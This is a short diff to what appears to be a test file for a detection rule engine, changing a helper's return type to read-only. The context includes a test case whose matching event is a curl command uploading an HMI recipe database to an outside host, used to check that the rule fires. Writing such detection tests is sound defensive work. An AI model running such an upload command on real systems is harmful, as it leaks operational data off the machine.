@@ -36,7 +36,7 @@ const cases: Record<string, Case> = {
   'Data Transfer Tool Inside a Remote Session': { category: 'process_creation', match: proc('/usr/bin/curl', 'curl -T /opt/hmi/recipes.db https://example.net/up', inSession), miss: proc('/usr/bin/curl', 'curl -s http://127.0.0.1:8080/health', inSession) },
 };
 
-function run(engine: RuleEngine, category: string, product: string, fields: Fields, id = 'e1', time = '2026-11-28T10:00:00Z'): Alert[] {
+function run(engine: RuleEngine, category: string, product: string, fields: Fields, id = 'e1', time = '2026-11-28T10:00:00Z'): readonly Alert[] {
   return engine.evaluate({ id, time, category, product, fields });
 }
 
